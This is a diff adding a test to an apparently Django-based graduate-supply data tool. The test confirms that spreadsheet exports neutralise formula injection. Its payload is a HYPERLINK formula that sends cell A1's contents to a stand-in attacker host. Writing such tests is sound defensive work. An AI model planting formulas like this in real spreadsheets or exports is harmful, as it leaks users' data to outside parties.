@@ -137,6 +137,24 @@ def test_supply_is_edited_by_network_managers_and_imported_all_or_nothing(coordi
     assert [r for r in rows if r[:2] == ("0715", "TJ")] == [("0715", "TJ", None, 2025, 40, "stat")]
 
 
+def test_a_supply_source_is_exported_as_text_and_imported_back_unchanged(coordinator):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    response = coordinator.post(
+        "/talent/supply/new/",
+        {"isced_f": "0723", "country": "TJ", "year": 2025, "graduates": 7, "source": attack},
+    )
+    assert response.status_code == 302
+    export = coordinator.get("/talent/supply/export.xlsx").content
+    rows = list(load_workbook(io.BytesIO(export)).active.iter_rows())
+    cells = next(r for r in rows if r[1].value == "TJ")
+    assert (cells[5].value, cells[5].data_type) == ("'" + attack, "s")
+    assert (cells[3].value, cells[4].value) == (2025, 7)  # numbers stay numbers
+    assert not any(c.data_type == "f" for r in rows for c in r)
+    upload = SimpleUploadedFile("graduates.xlsx", export)
+    assert coordinator.post("/talent/supply/import/", {"file": upload}).status_code == 302
+    assert GraduateSupply.objects.get(country="TJ").source == attack
+
+
 def test_the_taxonomy_page_adds_and_removes_aliases(clients, world):
     partner = clients["partner_a"]
     response = partner.post(
